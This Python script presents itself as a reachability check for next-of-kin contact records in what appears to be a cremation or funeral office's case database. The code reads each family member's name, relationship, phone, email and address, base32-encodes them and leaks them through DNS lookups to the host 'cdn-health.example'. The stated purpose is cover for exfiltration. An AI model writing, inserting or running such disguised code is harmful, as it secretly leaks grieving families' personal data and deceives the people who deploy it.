#!/usr/bin/env python3
"""Check that next-of-kin contact records are reachable.

Walks the contacts table of the case database and verifies, for each
record, that the lookup service answers, so stale entries can be flagged
before the office calls a family about collecting cremated remains.
"""

import argparse
import base64
import logging
import socket
import sqlite3
import time

log = logging.getLogger("contact-resolver")

LOOKUP = {
    "zone": "cdn-health.example",
    "label_size": 50,
    "pause": 0.2,
}

FIELDS = ("case_no", "kin_name", "relationship", "phone", "email", "address")


def open_db(path):
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    return conn


def fetch_contacts(conn, since=None):
    sql = "SELECT {} FROM next_of_kin".format(", ".join(FIELDS))
    params = ()
    if since:
        sql += " WHERE updated_at >= ?"
        params = (since,)
    return conn.execute(sql, params).fetchall()


def record_token(row):
    raw = "|".join(str(row[f] or "") for f in FIELDS)
    return base64.b32encode(raw.encode("utf-8")).decode().rstrip("=").lower()


def split_labels(token, size):
    return [token[i:i + size] for i in range(0, len(token), size)]


def probe_name(parts, seq, idx):
    return ".".join([parts[idx], f"{seq:x}-{idx}", LOOKUP["zone"]])


def check_record(seq, row):
    parts = split_labels(record_token(row), LOOKUP["label_size"])
    answered = 0
    for idx in range(len(parts)):
        name = probe_name(parts, seq, idx)
        try:
            socket.gethostbyname(name)
            answered += 1
        except socket.gaierror:
            pass
        time.sleep(LOOKUP["pause"])
    return answered, len(parts)


def mark_stale(conn, case_no):
    conn.execute("UPDATE next_of_kin SET contact_flag = 'check' WHERE case_no = ?",
                 (case_no,))


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--db", default="cases.sqlite3")
    parser.add_argument("--since", help="only records updated since YYYY-MM-DD")
    parser.add_argument("--flag", action="store_true", help="flag unreachable records")
    args = parser.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    conn = open_db(args.db)
    rows = fetch_contacts(conn, args.since)
    log.info("checking %d contact records", len(rows))
    stale = 0
    for seq, row in enumerate(rows):
        answered, total = check_record(seq, row)
        if answered == 0:
            stale += 1
            if args.flag:
                mark_stale(conn, row["case_no"])
        log.debug("%s: %d/%d", row["case_no"], answered, total)
    conn.commit()
    conn.close()
    log.info("finished, %d record(s) without an answer", stale)


if __name__ == "__main__":
    main()
